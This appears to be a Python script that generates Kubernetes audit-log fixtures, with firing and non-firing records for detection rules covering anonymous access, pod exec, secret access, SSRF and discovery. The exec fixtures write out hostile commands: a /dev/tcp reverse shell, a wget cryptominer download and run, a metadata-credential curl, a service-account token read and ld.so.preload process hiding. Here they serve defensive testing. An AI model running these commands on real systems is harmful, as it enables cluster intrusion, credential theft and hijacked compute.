#!/usr/bin/env python3
# Writes the Kubernetes rule fixtures: <RULE-ID>.pos.jsonl (records that
# must make the rule fire) and <RULE-ID>.neg.jsonl (near misses that must
# not).  Records follow what EKS logs (k8s-detections.md section 3.0):
# aws-iam-authenticator identities with user.extra, Metadata level for
# secrets/configmaps/tokens, RequestResponse for RBAC and workloads.
# Run from this directory: ./make-fixtures.py
import json, uuid, datetime, random, urllib.parse

rnd = random.Random(318)
T0 = datetime.datetime(2024, 5, 1, 10, 0, 0)
ACCT = "111122223333"

def uid():
    return str(uuid.UUID(int=rnd.getrandbits(128)))

def human(name="kubernetes-admin", role="EKSAdmin", session="jdoe", key="ASIAYK7EXAMPLE3Q2J4M"):
    return {"username": name, "uid": f"aws-iam-authenticator:{ACCT}:AROAYK7EXAMPLEID01",
            "groups": ["system:masters", "system:authenticated"],
            "extra": {"accessKeyId": [key], "arn": [f"arn:aws:sts::{ACCT}:assumed-role/{role}/{session}"],
                      "canonicalArn": [f"arn:aws:iam::{ACCT}:role/{role}"],
                      "principalId": ["AROAYK7EXAMPLEID01"], "sessionName": [session]}}

def dev(name="alice"):
    return {"username": f"{name}", "uid": f"aws-iam-authenticator:{ACCT}:AIDAYK7EXAMPLE{name.upper()}",
            "groups": ["developers", "system:authenticated"],
            "extra": {"accessKeyId": ["AKIAYK7EXAMPLEDEV01"], "arn": [f"arn:aws:iam::{ACCT}:user/{name}"],
                      "canonicalArn": [f"arn:aws:iam::{ACCT}:user/{name}"], "principalId": ["AIDAYK7EXAMPLEDEV01"],
                      "sessionName": [""]}}

ANON = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}

def sa(ns, name, pod=None, cred=None):
    u = {"username": f"system:serviceaccount:{ns}:{name}", "uid": uid(),
         "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]}
    if pod or cred:
        u["extra"] = {}
        if pod:
            u["extra"]["authentication.kubernetes.io/pod-name"] = [pod]
            u["extra"]["authentication.kubernetes.io/pod-uid"] = [uid()]
        if cred:
            u["extra"]["authentication.kubernetes.io/credential-id"] = [cred]
    return u

NODE = {"username": "system:node:ip-192-168-12-34.us-west-2.compute.internal",
        "uid": f"aws-iam-authenticator:{ACCT}:AROAYK7EXAMPLENODE1",
        "groups": ["system:bootstrappers", "system:nodes", "system:authenticated"],
        "extra": {"accessKeyId": ["ASIAYK7EXAMPLENODE01"],
                  "arn": [f"arn:aws:sts::{ACCT}:assumed-role/eks-node-role/i-0a1b2c3d4e5f60718"],
                  "canonicalArn": [f"arn:aws:iam::{ACCT}:role/eks-node-role"],
                  "sessionName": ["i-0a1b2c3d4e5f60718"]}}
KCM = {"username": "system:kube-controller-manager", "groups": ["system:authenticated"]}

KUBECTL = "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625"
KUBECTL_MAC = "kubectl/v1.30.1 (darwin/arm64) kubernetes/4b8e819"
CURL = "curl/8.4.0"
ATTACKER = "198.51.100.23"
OFFICE = "203.0.113.10"

GROUPS = {"deployments": "apps", "daemonsets": "apps", "statefulsets": "apps", "replicasets": "apps",
          "jobs": "batch", "cronjobs": "batch", "roles": "rbac.authorization.k8s.io",
          "clusterroles": "rbac.authorization.k8s.io", "rolebindings": "rbac.authorization.k8s.io",
          "clusterrolebindings": "rbac.authorization.k8s.io", "ingresses": "networking.k8s.io",
          "networkpolicies": "networking.k8s.io", "certificatesigningrequests": "certificates.k8s.io",
          "selfsubjectrulesreviews": "authorization.k8s.io", "selfsubjectaccessreviews": "authorization.k8s.io",
          "subjectaccessreviews": "authorization.k8s.io", "selfsubjectreviews": "authentication.k8s.io",
          "mutatingwebhookconfigurations": "admissionregistration.k8s.io",
          "validatingwebhookconfigurations": "admissionregistration.k8s.io",
          "apiservices": "apiregistration.k8s.io", "customresourcedefinitions": "apiextensions.k8s.io"}
CLUSTER_SCOPED = {"clusterroles", "clusterrolebindings", "namespaces", "nodes", "certificatesigningrequests",
                  "selfsubjectrulesreviews", "selfsubjectaccessreviews", "subjectaccessreviews",
                  "selfsubjectreviews", "mutatingwebhookconfigurations", "validatingwebhookconfigurations",
                  "apiservices", "customresourcedefinitions", "persistentvolumes"}
clock = [0]

def ts(sec):
    return (T0 + datetime.timedelta(seconds=sec)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")

def ev(verb, resource=None, ns=None, name=None, sub=None, user=None, code=200, req=None, resp=None,
       ua=KUBECTL, ips=None, uri=None, stage="ResponseComplete", decision="allow", reason=None,
       t=None, imp=None, level=None, query="", status=None):
    if t is None:
        clock[0] += 7
        t = clock[0]
    user = user or human()
    if resource in CLUSTER_SCOPED:
        ns = None
    grp = GROUPS.get(resource, "")
    if uri is None:
        base = f"/apis/{grp}/v1" if grp else "/api/v1"
        uri = base + (f"/namespaces/{ns}" if ns else "") + (f"/{resource}" if resource else "") + \
              (f"/{name}" if name and verb not in ("create",) or (name and sub) else "") + \
              (f"/{sub}" if sub else "") + query
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1",
         "level": level or ("RequestResponse" if req is not None or resp is not None else "Metadata"),
         "auditID": uid(), "stage": stage, "requestURI": uri, "verb": verb, "user": user,
         "sourceIPs": ips or [OFFICE], "userAgent": ua}
    if imp:
        e["impersonatedUser"] = imp
    if resource:
        o = {"resource": resource}
        if ns: o["namespace"] = ns
        if name: o["name"] = name
        if grp: o["apiGroup"] = grp
        o["apiVersion"] = "v1"
        if sub: o["subresource"] = sub
        e["objectRef"] = o
    rs = {"metadata": {}, "code": code}
    if code >= 400:
        rs.update({"status": "Failure", "reason": {401: "Unauthorized", 403: "Forbidden", 404: "NotFound",
                                                 400: "BadRequest", 409: "AlreadyExists"}.get(code, "Unknown"),
                   "message": status or ("Unauthorized" if code == 401 else f"{resource or uri} is forbidden"),
                   "code": code})
    if stage != "RequestReceived":
        e["responseStatus"] = rs
    if req is not None: e["requestObject"] = req
    if resp is not None: e["responseObject"] = resp
    e["requestReceivedTimestamp"] = ts(t)
    e["stageTimestamp"] = ts(t + 0.012)
    if code != 401:
        if decision == "forbid" or code == 403:
            e["annotations"] = {"authorization.k8s.io/decision": "forbid",
                                "authorization.k8s.io/reason": reason or ""}
        else:
            e["annotations"] = {"authorization.k8s.io/decision": decision,
                                "authorization.k8s.io/reason": reason if reason is not None else
                                "RBAC: allowed by ClusterRoleBinding \"eks-admins\" of ClusterRole \"cluster-admin\" to Group \"system:masters\""}
    return e

def execev(ns, pod, argv, container=None, user=None, verb="create", stage="ResponseStarted", code=101, sub="exec", **kw):
    q = [("command", a) for a in argv] + [("container", container or pod.split("-")[0]), ("stderr", "true"), ("stdout", "true")]
    uri = f"/api/v1/namespaces/{ns}/pods/{pod}/{sub}?" + urllib.parse.urlencode(q)
    return ev(verb, "pods", ns, pod, sub=sub, user=user, code=code, uri=uri, stage=stage, **kw)

def podspec(image="nginx:1.25", privileged=False, volumes=None, host=None, caps=None, sc=None, cmd=None,
            args=None, ports=None, sa_name=None, extra_containers=None):
    c = {"name": image.split("/")[-1].split(":")[0][:20] or "app", "image": image}
    s = {}
    if privileged: s["privileged"] = True
    if caps: s["capabilities"] = {"add": caps}
    if sc: s.update(sc)
    if s: c["securityContext"] = s
    if cmd: c["command"] = cmd
    if args: c["args"] = args
    if ports: c["ports"] = ports
    if volumes:
        c["volumeMounts"] = [{"name": v["name"], "mountPath": "/host" + str(i)} for i, v in enumerate(volumes)]
    spec = {"containers": [c] + (extra_containers or []), "restartPolicy": "Always"}
    if volumes: spec["volumes"] = volumes
    if host: spec.update(host)
    if sa_name: spec["serviceAccountName"] = sa_name
    return spec

def pod(ns, name, spec, owner=None, annotations=None):
    md = {"name": name, "namespace": ns}
    if owner: md["ownerReferences"] = [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": owner, "uid": uid(), "controller": True}]
    if annotations: md["annotations"] = annotations
    return {"kind": "Pod", "apiVersion": "v1", "metadata": md, "spec": spec}

def deploy(ns, name, spec, kind="Deployment"):
    o = {"kind": kind, "apiVersion": "apps/v1", "metadata": {"name": name, "namespace": ns},
         "spec": {"selector": {"matchLabels": {"app": name}},
                  "template": {"metadata": {"labels": {"app": name}}, "spec": spec}}}
    if kind == "Deployment": o["spec"]["replicas"] = 1
    return o

def cronjob(ns, name, spec):
    return {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": name, "namespace": ns},
            "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": spec}}}}}

def hp(path, name="host"):
    return {"name": name, "hostPath": {"path": path}}

def binding(kind, name, role, subjects, ns=None, rolekind="ClusterRole"):
    md = {"name": name}
    if ns: md["namespace"] = ns
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": md, "subjects": subjects,
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": rolekind, "name": role}}

def subj(kind, name, ns=None):
    s = {"kind": kind, "name": name}
    if kind in ("User", "Group"): s["apiGroup"] = "rbac.authorization.k8s.io"
    if ns: s["namespace"] = ns
    return s

def role(kind, name, rules, ns=None):
    md = {"name": name}
    if ns: md["namespace"] = ns
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": md, "rules": rules}

def rule(groups, resources, verbs):
    return {"apiGroups": groups, "resources": resources, "verbs": verbs}

def svc(ns, name, typ="ClusterIP", ports=None, selector=None, extra=None):
    spec = {"type": typ, "ports": ports or [{"port": 443, "targetPort": 8443, "protocol": "TCP"}],
            "selector": selector or {"app": name}}
    if extra: spec.update(extra)
    return {"kind": "Service", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}, "spec": spec}

CNI_IMG = "602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.18.1-eksbuild.1"

F = {}
def fx(rid, pos, neg):
    F[rid] = (pos, neg)

# ---------------- identity ----------------
fx("K8S-ANON-001",
   [ev("list", "secrets", user=ANON, ua=CURL, ips=[ATTACKER], uri="/api/v1/secrets",
       reason='RBAC: allowed by ClusterRoleBinding "cluster-system-anonymous" of ClusterRole "cluster-admin" to User "system:anonymous"'),
    ev("get", "pods", "default", user=ANON, ua=CURL, ips=[ATTACKER], uri="/api/v1/namespaces/default/pods")],
   [ev("get", None, user=ANON, ua="kube-probe/1.29", uri="/version", reason='RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"'),
    ev("get", None, user=ANON, ua=CURL, uri="/healthz?verbose"),
    ev("list", "secrets", user=ANON, ua=CURL, ips=[ATTACKER], uri="/api/v1/secrets", code=403),
    ev("get", None, user=ANON, ua="Go-http-client/1.1", uri="/.well-known/openid-configuration")])
fx("K8S-ANON-002",
   [ev("create", "pods", "default", user=ANON, ua=CURL, ips=[ATTACKER], code=201, req=pod("default", "evil", podspec("alpine:3.19")))],
   [ev("create", "pods", "default", user=ANON, ua=CURL, ips=[ATTACKER], code=403),
    ev("create", "pods", "default", code=201, req=pod("default", "web", podspec()))])
fx("K8S-ANON-003",
   [ev("create", "pods", "default", user=ANON, ua=CURL, ips=[ATTACKER], code=403)],
   [ev("create", "pods", "default", user=dev(), code=403)])
fx("K8S-ANON-004",
   [ev("get", None, user=ANON, ua="Mozilla/5.0 zgrab/0.x", ips=[ATTACKER], uri="/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", code=403)],
   [ev("get", None, user=ANON, ua=CURL, uri="/api/v1/namespaces", code=403),
    ev("get", None, user=ANON, ua="kube-probe/1.29", uri="/readyz")])
fx("K8S-ANON-005",
   [ev("get", None, user=ANON, ua=CURL, ips=[ATTACKER], uri="/apis")],
   [ev("get", None, user=ANON, ua=CURL, ips=[ATTACKER], uri="/apis", code=403),
    ev("get", None, user=dev(), uri="/api")])
fx("K8S-AUTH-001",
   [ev("list", "secrets", user={"username": "", "groups": []}, ua=CURL, ips=[ATTACKER], uri="/api/v1/secrets", code=401)],
   [ev("list", "secrets", "default", user=dev(), code=403)])
fx("K8S-AUTH-002",
   [ev("list", "secrets", "kube-system", user=dev(), code=403, reason="")],
   [ev("create", "pods", "default", user=dev(), code=403), ev("list", "pods", "default", user=dev())])
fx("K8S-AUTH-003",
   [ev("create", "pods", "kube-system", user=dev(), code=403)],
   [ev("list", "secrets", "kube-system", user=dev(), code=403), ev("create", "pods", "default", user=dev(), code=201)])
fx("K8S-AUTH-004",
   [ev("list", "secrets", "kube-system", user=sa("web", "frontend", pod="frontend-7d9c-x2x9z"), ua=CURL, code=403)],
   [ev("list", "secrets", "kube-system", user=dev(), code=403), ev("get", "configmaps", "web", "settings", user=sa("web", "frontend"))])
fx("K8S-AUTH-005",
   [ev("get", "secrets", "kube-system", "aws-node-token", user=sa("kube-system", "aws-node"), ips=[ATTACKER], ua=CURL),
    ev("list", "pods", user=KCM, ips=["10.0.4.5", ATTACKER], uri="/api/v1/pods")],
   [ev("get", "secrets", "kube-system", "aws-node-token", user=sa("kube-system", "aws-node"), ips=["192.168.7.20"]),
    ev("list", "pods", user=ANON, ips=[ATTACKER], uri="/api/v1/pods"),
    ev("list", "pods", user=dev(), ips=[ATTACKER], uri="/api/v1/pods")])
fx("K8S-AUTH-006",
   [ev("list", "secrets", "web", user=sa("web", "frontend", pod="frontend-7d9c5b6f4-x2x9z"), ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", ips=[ATTACKER])],
   [ev("list", "secrets", "web", user=sa("web", "frontend", pod="frontend-7d9c5b6f4-x2x9z"), ua="frontend/1.4.2"),
    ev("list", "secrets", "web", user=sa("web", "frontend"), ua=KUBECTL)])
fx("K8S-AUTH-007",
   [ev("list", "pods", "default", user=dev(), ua="kube-hunter/0.6.8"),
    ev("get", "secrets", "default", "db", user=dev(), ua="trufflehog/3.63.0")],
   [ev("list", "pods", "default", user=dev(), ua=KUBECTL)])
fx("K8S-AUTH-008",
   [ev("list", "secrets", "default", user=sa("web", "frontend"), ua="python-requests/2.31.0", ips=[ATTACKER])],
   [ev("list", "secrets", "default", user=sa("web", "frontend"), ua="python-requests/2.31.0", code=403),
    ev("list", "pods", "default", user=sa("web", "frontend"), ua="python-requests/2.31.0")])
fx("K8S-AUTH-011",
   [ev("get", "secrets", "web", "app-token", user=sa("web", "frontend", pod="frontend-1", cred="JTI=3b1f9c2e-0d5a-4e7b-9c1d-2f3a4b5c6d7e"), ips=["192.168.33.10"], ua="frontend/1.0"),
    ev("list", "secrets", "web", user=sa("web", "frontend", pod="frontend-1", cred="JTI=3b1f9c2e-0d5a-4e7b-9c1d-2f3a4b5c6d7e"), ips=[ATTACKER], ua=CURL)],
   [ev("get", "secrets", "web", "app-token", user=sa("web", "frontend", pod="frontend-1", cred="JTI=3b1f9c2e-0d5a-4e7b-9c1d-2f3a4b5c6d7e"), ips=["192.168.33.10"], ua="frontend/1.0"),
    ev("get", "secrets", "web", "app-token", user=sa("web", "frontend", pod="frontend-1", cred="JTI=3b1f9c2e-0d5a-4e7b-9c1d-2f3a4b5c6d7e"), ips=["192.168.33.10"], ua="frontend/1.0"),
    ev("get", "secrets", "web", "app-token", user=sa("web", "frontend", pod="frontend-2", cred="JTI=77aa9c2e-0d5a-4e7b-9c1d-2f3a4b5c6d7e"), ips=["192.168.40.11"], ua="frontend/1.0")])
fx("K8S-NET-001",
   [ev("get", "secrets", "default", "db-creds", user=dev(), ips=["45.155.205.7"]),
    ev("list", "pods", "default", user=dev(), ips=["45.155.205.99", "10.0.1.5"])],
   [ev("get", "secrets", "default", "db-creds", user=dev(), ips=["198.18.0.1"]),
    ev("list", "pods", "default", user=ANON, ips=["45.155.205.7"])])
fx("K8S-NET-002",
   [ev("get", None, user=ANON, ua=CURL, ips=["185.220.101.4"], uri="/api")],
   [ev("get", None, user=ANON, ua=CURL, ips=["185.220.102.4"], uri="/api")])

# ---------------- exec ----------------
fx("K8S-EXEC-001",
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["/bin/bash"]),
    execev("default", "test-nginx", ["/usr/bin/curl", "https://www.google.com/"], verb="get", stage="ResponseComplete", code=101)],
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["/bin/bash"], user=dev(), code=403, stage="ResponseComplete"),
    ev("get", "pods", "default", "nginx-7c5ddbdf54-8xk2p", user=dev())])
fx("K8S-EXEC-002",
   [execev("default", "nginx-7c5ddbdf54-8xk2p", [], sub="attach")],
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["ls"])])
fx("K8S-EXEC-003",
   [execev("kube-system", "nginx", ["pwd"], container="nginx")],
   [execev("default", "nginx", ["pwd"], container="nginx"),
    execev("kube-system", "nginx", ["pwd"], container="nginx", user=dev(), code=403, stage="ResponseComplete")])
fx("K8S-EXEC-004",
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["/bin/bash"]),
    execev("default", "nginx-7c5ddbdf54-8xk2p", ["sh", "-c", "id; uname -a"])],
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["cat", "/etc/nginx/nginx.conf"])])
fx("K8S-EXEC-005",
   [execev("default", "test-nginx", ["/usr/bin/curl", "https://www.google.com/"]),
    execev("default", "nginx-7c5ddbdf54-8xk2p", ["sh", "-c", "wget -q http://198.51.100.23/xmrig -O /tmp/x"])],
   [execev("default", "test-nginx", ["curl", "-s", "http://localhost:8080/healthz"]),
    execev("default", "test-nginx", ["ls", "-la", "/tmp"])])
fx("K8S-EXEC-006",
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"])],
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["bash", "-c", "echo hello"])])
fx("K8S-EXEC-007",
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"])],
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["curl", "-s", "http://10.100.0.1/"])])
fx("K8S-EXEC-008",
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])],
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["cat", "/etc/resolv.conf"])])
fx("K8S-EXEC-009",
   [execev("default", "db-0", ["tar", "cf", "-", "/var/lib/postgresql/data/dump.sql"], container="db")],
   [execev("default", "db-0", ["tar", "--version"], container="db")])
fx("K8S-EXEC-010",
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["sh", "-c", "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload"]),
    execev("default", "nginx-7c5ddbdf54-8xk2p", ["rm", "-f", "/root/.bash_history"])],
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["rm", "-f", "/tmp/cache.bin"])])
fx("K8S-EXEC-011",
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["sh", "-c", "/tmp/xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1 -B"])],
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["sh", "-c", "nginx -s reload"])])
fx("K8S-EXEC-012",
   [ev("create", "pods", "default", "web-0", sub="portforward", code=101, stage="ResponseStarted")],
   [ev("create", "pods", "default", "web-0", sub="portforward", code=403, user=dev())])
fx("K8S-EXEC-013",
   [ev("get", "pods", "default", "web-0:8080", sub="proxy", uri="/api/v1/namespaces/default/pods/web-0:8080/proxy/admin")],
   [ev("get", "nodes", None, "ip-192-168-12-34.us-west-2.compute.internal", sub="proxy", uri="/api/v1/nodes/ip-192-168-12-34.us-west-2.compute.internal/proxy/metrics", user=sa("monitoring", "prometheus"))])
fx("K8S-EXEC-014",
   [ev("get", "nodes", None, "ip-192-168-12-34.us-west-2.compute.internal", sub="proxy", user=dev(), uri="/api/v1/nodes/ip-192-168-12-34.us-west-2.compute.internal/proxy/pods")],
   [ev("get", "nodes", None, "ip-192-168-12-34.us-west-2.compute.internal", sub="proxy", user=dev(), uri="/api/v1/nodes/ip-192-168-12-34.us-west-2.compute.internal/proxy/stats/summary"),
    ev("get", "nodes", None, "ip-192-168-12-34.us-west-2.compute.internal", sub="proxy", user=sa("kube-system", "metrics-server"), uri="/api/v1/nodes/ip-192-168-12-34.us-west-2.compute.internal/proxy/pods")])
fx("K8S-EXEC-015",
   [ev("create", "nodes", None, "ip-192-168-12-34.us-west-2.compute.internal", sub="proxy", user=dev(), uri="/api/v1/nodes/ip-192-168-12-34.us-west-2.compute.internal/proxy/run/default/web-0/app?cmd=id")],
   [ev("get", "nodes", None, "ip-192-168-12-34.us-west-2.compute.internal", sub="proxy", user=dev(), uri="/api/v1/nodes/ip-192-168-12-34.us-west-2.compute.internal/proxy/metrics")])
def sar(u, res="nodes", subr="proxy"):
    return {"kind": "SubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
            "spec": {"resourceAttributes": {"verb": "create", "resource": res, "subresource": subr, "name": "ip-192-168-12-34.us-west-2.compute.internal"},
                     "user": u, "groups": ["system:authenticated"]}}
fx("K8S-EXEC-016",
   [ev("create", "subjectaccessreviews", user=NODE, code=201, ua="kubelet/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
       req=sar("alice"), resp={"status": {"allowed": True}}, ips=["192.168.12.34"])],
   [ev("create", "subjectaccessreviews", user=NODE, code=201, ua="kubelet/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
       req=sar("system:serviceaccount:kube-system:metrics-server"), resp={"status": {"allowed": True}}, ips=["192.168.12.34"])])
fx("K8S-EXEC-017",
   [ev("patch", "pods", "default", "web-0", sub="ephemeralcontainers", user=dev(),
       req={"spec": {"ephemeralContainers": [{"name": "debugger-x7k2p", "image": "busybox:1.36", "targetContainerName": "app", "stdin": True, "tty": True}]}})],
   [ev("patch", "pods", "default", "web-0", sub="ephemeralcontainers", user=dev(), code=403),
    ev("patch", "pods", "default", "web-0", sub="status", user=NODE, req={"status": {"phase": "Running"}})])
fx("K8S-ANOM-003",
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["/bin/bash"], user=dev("mallory"))],
   [execev("default", "nginx-7c5ddbdf54-8xk2p", ["/bin/bash"], user=sa("ci", "runner"))])
# the SSRF chain: pods/status rewritten, then proxy to the same pod
spoof = lambda ip, t, u=None: ev("patch", "pods", "default", "web-0", sub="status", user=u or dev(), t=t,
    req={"status": {"podIP": ip, "podIPs": [{"ip": ip}]}},
    resp=pod("default", "web-0", podspec()) | {"status": {"podIP": ip, "podIPs": [{"ip": ip}], "phase": "Running"}})
fx("K8S-SSRF-002",
   [spoof("169.254.169.254", 1000),
    ev("get", "pods", "default", "web-0:80", sub="proxy", t=1100, user=dev(), code=400,
       uri="/api/v1/namespaces/default/pods/web-0:80/proxy/latest/meta-data/iam/security-credentials/"),
    spoof("192.168.12.34", 2000),
    ev("create", "pods", "default", "web-0", sub="portforward", t=2060, user=dev(), code=101, stage="ResponseStarted")],
   [spoof("169.254.169.254", 1000),
    ev("get", "pods", "default", "web-1:80", sub="proxy", t=1100, user=dev(), uri="/api/v1/namespaces/default/pods/web-1:80/proxy/"),
    ev("get", "pods", "default", "web-0:80", sub="proxy", t=1000 + 3 * 3600, user=dev(), uri="/api/v1/namespaces/default/pods/web-0:80/proxy/")])

# ---------------- secrets ----------------
fx("K8S-SECRET-001",
   [ev("list", "secrets", user=dev(), uri="/api/v1/secrets?limit=500", ips=[ATTACKER])],
   [ev("list", "secrets", "default", user=dev()),
    ev("list", "secrets", user=KCM, uri="/api/v1/secrets?limit=500&resourceVersion=0", ips=["127.0.0.1"], ua="kube-controller-manager/v1.29.3")])
fx("K8S-SECRET-002",
   [ev("list", "secrets", user=ANON, ua=CURL, ips=[ATTACKER], uri="/api/v1/secrets"),
    ev("list", "secrets", user=dev(), ips=[ATTACKER], uri="/api/v1/secrets")],
   [ev("list", "secrets", user=dev(), ips=["192.168.4.4"], uri="/api/v1/secrets")])
fx("K8S-SECRET-003",
   [ev("list", "secrets", "payments", user=dev())],
   [ev("list", "secrets", "payments", user=sa("kube-system", "external-secrets"))])
fx("K8S-SECRET-004",
   [ev("get", "secrets", "payments", "stripe-api-key", user=dev())],
   [ev("get", "secrets", "payments", "stripe-api-key", user=dev(), code=403),
    ev("get", "secrets", "kube-system", "bootstrap-token-abcdef", user=NODE)])
fx("K8S-SECRET-005",
   [ev("get", "secrets", "kube-system", "aws-secret", user=dev(), code=403)],
   [ev("get", "secrets", "kube-system", "aws-secret", user=dev())])
fx("K8S-SECRET-006",
   [ev("get", "secrets", "payments", "db-creds", user=sa("web", "frontend", pod="frontend-1"), ips=["192.168.50.7"])],
   [ev("get", "secrets", "payments", "db-creds", user=sa("web", "frontend"), ips=["127.0.0.1"]),
    ev("get", "secrets", "payments", "sh.helm.release.v1.payments.v3", user=sa("argo", "argocd-application-controller"))])
fx("K8S-SECRET-007",
   [ev("list", "secrets", "default", user=dev(), ua=CURL)],
   [ev("list", "secrets", "default", user=dev(), ua=KUBECTL),
    ev("list", "secrets", "kube-system", user=ANON, ua=CURL, ips=[ATTACKER], code=403)])
fx("K8S-SECRET-008",
   [ev("delete", "secrets", "payments", "stripe-api-key", user=dev())],
   [ev("create", "secrets", "payments", "db-creds", user=sa("kube-system", "external-secrets")),
    ev("delete", "secrets", "payments", "stripe-api-key", user=dev(), code=404)])
fx("K8S-SECRET-009",
   [ev("create", "serviceaccounts", "kube-system", "aws-node", sub="token", user=sa("kube-system", "ebs-csi-node-sa").copy() | {"username": "system:serviceaccount:storage:csi-driver"}, code=201),
    ev("create", "serviceaccounts", "payments", "default", sub="token", user=dev(), code=201)],
   [ev("create", "serviceaccounts", "payments", "default", sub="token", user=NODE, code=201),
    ev("create", "serviceaccounts", "payments", "default", sub="token", user=KCM, code=201)])
fx("K8S-SECRET-010",
   [ev("create", "serviceaccounts", "kube-system", "clusterrole-aggregation-controller", sub="token", user=dev(), code=201)],
   [ev("create", "serviceaccounts", "payments", "default", sub="token", user=dev(), code=201)])
fx("K8S-SECRET-011",
   [ev("create", "secrets", "default", "build-robot-secret", user=dev(), code=201, level="Request",
       req={"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "build-robot-secret", "annotations": {"kubernetes.io/service-account.name": "build-robot"}}, "type": "kubernetes.io/service-account-token"})],
   [ev("create", "secrets", "default", "app-config", user=dev(), code=201, level="Request",
       req={"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "app-config"}, "type": "Opaque", "data": {}})])
csr = {"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "backdoor"},
       "spec": {"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}}
fx("K8S-SECRET-012",
   [ev("create", "certificatesigningrequests", name=None, user=dev(), code=201, req=csr)],
   [ev("create", "certificatesigningrequests", name=None, user=NODE, code=201, req=csr | {"spec": {"signerName": "kubernetes.io/kubelet-serving", "usages": ["server auth"]}})])
fx("K8S-SECRET-013",
   [ev("update", "certificatesigningrequests", name="backdoor", sub="approval", user=dev(), req=csr | {"status": {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove"}]}})],
   [ev("update", "certificatesigningrequests", name="csr-x7k2p", sub="approval", user=KCM, req=csr)])
fx("K8S-SECRET-014",
   [ev("create", "configmaps", "default", None, user=dev(), code=201, level="Request",
       req={"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "app-settings"}, "data": {"credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"}})],
   [ev("create", "configmaps", "default", None, user=dev(), code=201, level="Request",
       req={"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "app-settings"}, "data": {"log_level": "info", "note": "no password here? no."[:0] + "plain"}})])
fx("K8S-ANOM-001",
   [ev("get", "secrets", "payments", "stripe-api-key", user=dev("mallory"), ua=CURL)],
   [ev("get", "secrets", "payments", "stripe-api-key", user=dev("mallory"), ua=CURL, code=403)])
fx("K8S-BURST-001",
   [ev("get", "secrets", "payments", f"secret-{i}", user=dev("mallory"), t=5000 + i * 20) for i in range(16)],
   [ev("get", "secrets", "payments", f"secret-{i}", user=dev("mallory"), t=5000 + i * 20) for i in range(10)] +
   [ev("get", "secrets", "payments", "same", user=dev("mallory"), t=6000 + i * 20) for i in range(20)])

# ---------------- discovery ----------------
ssar = lambda verb, res, subr=None: {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectAccessReview",
    "spec": {"resourceAttributes": {k: v for k, v in (("verb", verb), ("resource", res), ("subresource", subr), ("namespace", "default")) if v}}}
fx("K8S-DISC-001",
   [ev("create", "selfsubjectrulesreviews", user=dev(), code=201, req={"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": "default"}})],
   [ev("create", "selfsubjectrulesreviews", user=sa("web", "frontend"), code=201, req={"spec": {"namespace": "default"}})])
fx("K8S-DISC-002",
   [ev("create", "selfsubjectaccessreviews", user=sa("web", "frontend"), code=201, req=ssar("create", "pods", "exec"))],
   [ev("create", "selfsubjectaccessreviews", user=dev(), code=201, req=ssar("create", "pods", "exec"))])
fx("K8S-DISC-003",
   [ev("create", "selfsubjectreviews", user=sa("web", "frontend"), code=201, ua=KUBECTL, req={"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"})],
   [ev("create", "selfsubjectreviews", user=dev(), code=201, req={"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"})])
fx("K8S-ANOM-008",
   [ev("create", "selfsubjectaccessreviews", user=dev("mallory"), code=201, req=ssar("impersonate", "users"))],
   [ev("create", "selfsubjectaccessreviews", user=dev("mallory"), code=201, req=ssar("get", "configmaps"))])
fx("K8S-BURST-003",
